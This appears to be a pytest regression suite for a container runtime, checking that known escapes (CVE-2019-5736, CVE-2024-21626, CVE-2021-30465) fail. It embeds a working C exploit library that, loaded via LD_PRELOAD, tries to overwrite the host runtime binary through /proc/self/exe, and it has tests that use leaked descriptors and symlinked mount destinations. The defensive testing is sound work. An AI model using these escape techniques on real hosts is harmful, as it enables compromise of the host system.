"""Regression tests for known container escapes. Each one fails without its protection."""
import hashlib
import os
import shutil
import subprocess
import textwrap
import time

import pytest

import hulltest

ATTACK_LIB = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
/* CVE-2019-5736: runs as a constructor in whatever dynamically linked program the
 * container managed to execute through "#!/proc/self/exe". */
__attribute__((constructor)) static void attack(void)
{
        if (!getenv("HULL_ATTACK"))
                return;
        int fd = open("/proc/self/exe", O_PATH | O_CLOEXEC);
        if (fd < 0)
                _exit(3);
        if (fork() == 0) {
                char p[64];
                snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
                for (int i = 0; i < 400; i++) {
                        int w = open(p, O_WRONLY | O_APPEND);
                        if (w >= 0) {
                                write(w, "PWNED-BY-CONTAINER", 18);
                                close(w);
                                _exit(0);
                        }
                        usleep(10000);
                }
                _exit(1);
        }
        _exit(0);
}
"""


def sha(path):
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


def copy_libs(binary, rootfs):
    out = subprocess.run(["ldd", binary], capture_output=True, text=True, check=True).stdout
    for line in out.splitlines():
        parts = line.split()
        path = parts[2] if "=>" in parts and len(parts) > 2 else parts[0]
        if not path.startswith("/"):
            continue
        dst = os.path.join(rootfs, path.lstrip("/"))
        os.makedirs(os.path.dirname(dst), exist_ok=True)
        shutil.copy2(os.path.realpath(path), dst)


def test_cve_2019_5736_runtime_binary_not_writable(tmp_path, bundle, leak_check, tag):
    if not shutil.which("gcc"):
        pytest.skip("gcc is needed to build the attack library")
    # Attack a copy of the runtime so that a failure does not destroy the build.
    rt_copy = str(tmp_path / "hull-runtime-copy")
    shutil.copy2(hulltest.binary("hull-runtime"), rt_copy)
    before = sha(rt_copy)
    src = tmp_path / "evil.c"
    src.write_text(ATTACK_LIB)
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", os.path.join(bundle.rootfs, "evil.so"), str(src)], check=True)
    copy_libs(rt_copy, bundle.rootfs)
    with open(os.path.join(bundle.rootfs, "evil.sh"), "w") as f:
        f.write("#!/proc/self/exe\n")
    os.chmod(os.path.join(bundle.rootfs, "evil.sh"), 0o755)
    bundle.set_args("/bin/sleep", "30")
    root = str(tmp_path / "state")
    os.mkdir(root)
    leak_check.watch_dir(root)
    run = lambda *a, **kw: subprocess.run([rt_copy, "--root", root] + list(a), capture_output=True, text=True, **kw)
    # The container inherits stdio: give `run -d` no pipes it would hold open.
    assert subprocess.run([rt_copy, "--root", root, "run", "-d", "--bundle", bundle.path, bundle.id],
                          stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL).returncode == 0
    try:
        # As `exec` of the container's own entry point would: the program is "#!/proc/self/exe".
        p = run("exec", "--env", "HULL_ATTACK=1", "--env", "LD_PRELOAD=/evil.so", bundle.id, "/evil.sh")
        # The interpreter that ran was the sealed exec stub, which refuses, not the runtime.
        assert p.returncode == 126, (p.returncode, p.stderr)
        assert "refusing to run the exec stub" in p.stderr
        time.sleep(1.0)  # give a would-be writer time to act once the runtime has exited
        assert sha(rt_copy) == before
        with open(rt_copy, "rb") as f:
            assert b"PWNED-BY-CONTAINER" not in f.read()
    finally:
        run("delete", "--force", bundle.id)


def test_cve_2019_5736_proc_exe_of_setup_process_not_reachable(rt, bundle):
    """While the container's process waits for `start`, /proc/<pid>/exe must not open the host binary."""
    bundle.set_args("/bin/true")
    rt.run("create", "--bundle", bundle.path, bundle.id)
    try:
        # The waiting process is not dumpable: a process in the container (root, but without
        # CAP_SYS_PTRACE) cannot open /proc/1/exe, which still names the runtime binary.
        p = rt.run("exec", bundle.id, "/bin/sh", "-c", "cat /proc/1/exe > /dev/null 2>&1 && echo open || echo denied",
                   check=False)
        assert "denied" in p.stdout or p.returncode != 0
    finally:
        rt.run("delete", "--force", bundle.id)


def test_cve_2024_21626_no_leaked_fds(rt, bundle):
    bundle.set_args("/bin/sh", "-c", "for f in /proc/$$/fd/*; do echo ${f##*/} $(readlink $f); done")
    out = rt.run("run", "--bundle", bundle.path, bundle.id).stdout
    fds = {int(l.split()[0]) for l in out.splitlines()}
    # stdio only (the shell may hold one fd of its own above 9 for its own use)
    assert {0, 1, 2} <= fds
    extra = [l for l in out.splitlines() if int(l.split()[0]) > 2]
    for l in extra:
        assert "state" not in l and "cgroup" not in l and "memfd" not in l and "socket" not in l, out


@pytest.mark.parametrize("fd", range(3, 12))
def test_cve_2024_21626_cwd_through_leaked_fd(rt, bundle, fd):
    bundle.config["process"]["cwd"] = f"/proc/self/fd/{fd}"
    bundle.set_args("/bin/sh", "-c", "pwd; ls")
    p = rt.run("run", "--bundle", bundle.path, bundle.id, check=False)
    if p.returncode == 0:
        # Only acceptable if the directory is inside the container (it is not a host directory).
        assert not p.stdout.startswith("(unreachable)")
        assert "state.json" not in p.stdout and "config.json" not in p.stdout
    else:
        assert "process.cwd" in p.stderr


def test_mount_destination_symlink_stays_in_rootfs(rt, bundle, tmp_path):
    """CVE-2021-30465 class: a symlink in the rootfs must not redirect a mount to the host."""
    victim = tmp_path / "victim"
    victim.mkdir()
    os.symlink("/../../../../../../../../" + str(victim).lstrip("/"), os.path.join(bundle.rootfs, "escape"))
    os.symlink(str(victim), os.path.join(bundle.rootfs, "abs"))
    bundle.config["mounts"] += [
        {"destination": "/escape/t1", "type": "tmpfs", "source": "tmpfs"},
        {"destination": "/abs/t2", "type": "tmpfs", "source": "tmpfs"},
    ]
    bundle.set_args("/bin/sh", "-c", "grep -c tmpfs /proc/mounts")
    rt.run("run", "--bundle", bundle.path, bundle.id)
    assert os.listdir(victim) == []
    # The mounts landed inside the rootfs instead.
    assert os.path.isdir(os.path.join(bundle.rootfs, str(victim).lstrip("/"), "t1"))
